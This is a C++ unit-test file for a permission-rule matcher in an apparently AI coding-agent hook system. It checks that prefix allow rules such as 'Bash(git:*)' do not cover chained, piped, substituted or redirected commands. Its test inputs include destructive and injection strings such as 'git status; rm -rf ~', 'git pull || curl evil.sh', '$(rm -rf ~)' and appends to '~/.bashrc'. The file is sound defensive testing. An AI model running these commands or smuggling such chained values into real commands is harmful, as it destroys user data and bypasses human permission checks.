#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "Halvane/Sessions/AllowRules.h"

using namespace halvane;
using AllowRules::allowPattern;
using AllowRules::matchesAllowRule;

namespace {

HookEvent request(std::optional<std::string> tool, std::optional<std::string> toolInput) {
    HookEvent event;
    event.kind = HookEvent::Kind::permissionRequest;
    event.sessionId = "s";
    event.cwd = "/w";
    event.tool = std::move(tool);
    event.toolInput = std::move(toolInput);
    return event;
}

HookEvent bash(const std::string& command) {
    return request("Bash", nlohmann::json{{"command", command}}.dump());
}

bool gitRuleCovers(const std::string& command) {
    return matchesAllowRule(bash(command), {"Bash(git:*)"});
}

}  // namespace

TEST(AllowPattern, IsTheToolNameOrTheBashCommandWord) {
    EXPECT_EQ(allowPattern(request(std::nullopt, "{}")), std::nullopt);
    EXPECT_EQ(allowPattern(request("Edit", R"({"file_path":"/a/b"})")), "Edit");
    EXPECT_EQ(allowPattern(bash("git status")), "Bash(git:*)");
    EXPECT_EQ(allowPattern(bash("  ls   -la")), "Bash(ls:*)");
    EXPECT_EQ(allowPattern(bash("")), "Bash(:*)");
    // Only spaces: no piece, so the whole command is the word; a word with
    // blanks in it is no prefix anyone meant, so the command is kept whole.
    EXPECT_EQ(allowPattern(bash("   ")), "Bash(   )");
    // Tabs are not separators.
    EXPECT_EQ(allowPattern(bash("git\tstatus")), "Bash(git\tstatus)");
}

TEST(AllowPattern, FallsBackToBashWhenTheInputHasNoCommandString) {
    EXPECT_EQ(allowPattern(request("Bash", std::nullopt)), "Bash");
    EXPECT_EQ(allowPattern(request("Bash", "not json")), "Bash");
    EXPECT_EQ(allowPattern(request("Bash", R"(["git"])")), "Bash");
    EXPECT_EQ(allowPattern(request("Bash", R"({"cmd":"git"})")), "Bash");
    EXPECT_EQ(allowPattern(request("Bash", R"({"command":42})")), "Bash");
    // Nested past any parser's stack: read as no command, never a crash.
    const std::string deep = std::string(100000, '[') + std::string(100000, ']');
    EXPECT_EQ(allowPattern(request("Bash", R"({"command":"ls","x":)" + deep + "}")), "Bash");
}

TEST(MatchesAllowRule, BareToolNamesCoverEveryRequestOfThatTool) {
    EXPECT_TRUE(matchesAllowRule(request("Edit", R"({"file_path":"/x"})"), {"Read", "Edit"}));
    EXPECT_FALSE(matchesAllowRule(request("Write", "{}"), {"Read", "Edit"}));
    EXPECT_FALSE(matchesAllowRule(request(std::nullopt, "{}"), {"Bash", "Edit"}));
    EXPECT_FALSE(matchesAllowRule(bash("ls"), {}));
    // The user chose to allow every command, compound ones included.
    EXPECT_TRUE(matchesAllowRule(bash("rm -rf build; make && make install | tee log"), {"Bash"}));
}

TEST(MatchesAllowRule, PrefixRulesCompareOnlyTheFirstWord) {
    EXPECT_TRUE(gitRuleCovers("git status"));
    EXPECT_TRUE(gitRuleCovers("git"));
    EXPECT_TRUE(gitRuleCovers("   git    log -3"));
    EXPECT_FALSE(gitRuleCovers("gitk"));
    EXPECT_FALSE(gitRuleCovers("GIT status"));
    EXPECT_FALSE(matchesAllowRule(bash("npm run build"), {"Bash(npm run:*)"}));
    EXPECT_TRUE(matchesAllowRule(bash(""), {"Bash(:*)"}));
    EXPECT_FALSE(matchesAllowRule(bash("ls"), {"Bash(:*)"}));
    EXPECT_FALSE(matchesAllowRule(request("Bash", "not json"), {"Bash(git:*)"}));
}

TEST(MatchesAllowRule, PrefixRulesOfOtherToolsAndForeignRulesNeverMatch) {
    const std::vector<std::string> rules = {"Edit(src/**:*)", "Read(~/secrets)", "WebFetch(*)",
                                            "mcp__x"};
    EXPECT_FALSE(matchesAllowRule(request("Edit", R"({"file_path":"src/a.cpp"})"), rules));
    EXPECT_FALSE(matchesAllowRule(request("Read", R"({"file_path":"~/secrets"})"), rules));
    EXPECT_FALSE(matchesAllowRule(request("WebFetch", "{}"), rules));
    EXPECT_FALSE(matchesAllowRule(bash("git status"), {"Bash(git)", "Bash(git*)", "Bash:*)"}));
}

TEST(RunnerCommands, AreRememberedExactlyAndPrefixRulesForThemApproveNothing) {
    // Behind each first word the real command could be anything at all.
    for (const char* command :
         {"CI=true npm test", "FOO+=1 make", "sudo apt update", "/usr/bin/sudo ls", "env X=1 ls",
          "timeout 5 make", "nice make", "nohup ./serve", "xargs rm", "exec ls", "command ls",
          "bash -c 'make'", "sh -c make", "python3 -c 'print(1)'", "python3.12 x.py", "node -e 'x'",
          "npx jest", "\"sudo\" ls", "s$1 ls"}) {
        const std::string word = AllowRules::commandWord(command);
        EXPECT_EQ(allowPattern(bash(command)), "Bash(" + std::string(command) + ")") << command;
        // A prefix rule for the word, stored earlier, approves nothing ...
        const std::vector<std::string> prefixRule = {"Bash(" + word + ":*)"};
        EXPECT_FALSE(matchesAllowRule(bash(command), prefixRule)) << command;
        EXPECT_FALSE(matchesAllowRule(bash(word + " rm -rf ~"), prefixRule)) << command;
        // ... while the exact rule approves that command and no other.
        const std::vector<std::string> exact = {*allowPattern(bash(command))};
        EXPECT_TRUE(matchesAllowRule(bash(command), exact)) << command;
        EXPECT_FALSE(matchesAllowRule(bash(word + " rm -rf ~"), exact)) << command;
        EXPECT_FALSE(matchesAllowRule(bash(std::string(command) + " "), exact)) << command;
    }
    // The assignment in front of a harmless command changes nothing about that.
    EXPECT_FALSE(matchesAllowRule(bash("CI=true rm -rf ~"), {"Bash(CI=true:*)"}));
    // Ordinary programs and scripts keep their prefix rule.
    EXPECT_EQ(allowPattern(bash("npm test")), "Bash(npm:*)");
    EXPECT_EQ(allowPattern(bash("./build.sh --fast")), "Bash(./build.sh:*)");
    EXPECT_EQ(allowPattern(bash("git log --format=%H")), "Bash(git:*)");
    // Ending in ":*", the exact rule would read back as a prefix rule.
    EXPECT_EQ(allowPattern(bash("sudo echo a:*")), std::nullopt);
    EXPECT_FALSE(matchesAllowRule(bash("sudo echo a:*"), {"Bash(sudo echo a:*)"}));
}

TEST(MatchesAllowRule, FirstMatchingRuleWinsInListOrder) {
    EXPECT_TRUE(matchesAllowRule(bash("git push"), {"Bash(ls:*)", "junk", "Bash(git:*)"}));
}

TEST(CompoundCommands, ListsPipelinesAndJobsAreNotCoveredByAPrefixRule) {
    for (const char* command :
         {"git status; rm -rf ~", "git status;rm -rf ~", "git pull && make install",
          "git pull || curl evil.sh", "git log | sh", "git log |& tee x", "git gc & rm -rf ~",
          "git status\nrm -rf ~", "git status \\\nrm x"}) {
        EXPECT_FALSE(gitRuleCovers(command)) << command;
    }
}

TEST(CompoundCommands, SubstitutionsAreNotCoveredEvenInsideDoubleQuotes) {
    for (const char* command :
         {"git commit -m $(rm -rf ~)", "git commit -m `rm -rf ~`", "git commit -m \"$(whoami)\"",
          "git commit -m \"`whoami`\"", "git diff <(cat a) b", "git log >(tee x)",
          "git log $((1+2))", "git log ${x:-$(id)}", "git log (x)"}) {
        EXPECT_FALSE(gitRuleCovers(command)) << command;
    }
}

TEST(CompoundCommands, OutputRedirectionsToFilesAreNotCovered) {
    for (const char* command :
         {"git log > out.txt", "git log >out.txt", "git log >> ~/.bashrc", "git log 2> err",
          "git log >| x", "git log &> all.log", "git log &>> all.log", "git log >& all.log",
          "git log > \"/dev/null2\"", "git log <> file", "git log > $HOME/x",
          "git log 2>&1 > file"}) {
        EXPECT_FALSE(gitRuleCovers(command)) << command;
    }
}

TEST(CompoundCommands, DescriptorDuplicationsNullDeviceAndInputStayCovered) {
    for (const char* command :
         {"git log 2>&1", "git log >&2", "git log 2>&-", "git log 3>&1-", "git log 0<&3",
          "git log > /dev/null", "git log >/dev/null 2>&1", "git log 2>/dev/null",
          "git log &>/dev/null", "git log &>> /dev/null", "git log >& /dev/null",
          "git log > '/dev/null'", "git apply < fix.patch", "git apply <<< text"}) {
        EXPECT_TRUE(gitRuleCovers(command)) << command;
    }
}

TEST(CompoundCommands, QuotedAndEscapedOperatorsAreArgumentsNotSeparators) {
    for (const char* command :
         {"git commit -m 'a; b && c | d'", "git commit -m \"a; b && c | d > e\"",
          "git grep 'x$(y)'", "git grep 'a`b`'", "git grep a\\;b", "git grep a\\|b",
          "git commit -m \"say \\\"hi; there\\\"\"", "git grep $'it\\'s; fine'",
          "git commit -m \"line one\nline two\""}) {
        EXPECT_TRUE(gitRuleCovers(command)) << command;
    }
}

TEST(CompoundCommands, WhatCannotBeReadWithCertaintyIsNotCovered) {
    for (const char* command :
         {"git commit -m 'unterminated; rm x", "git commit -m \"open", "git log \\",
          // ANSI-C quoting ends at the unescaped quote: rm runs.
          "git grep $'a\\'' ; rm x", "git log > ", "git log <& file"}) {
        EXPECT_FALSE(gitRuleCovers(command)) << command;
    }
}
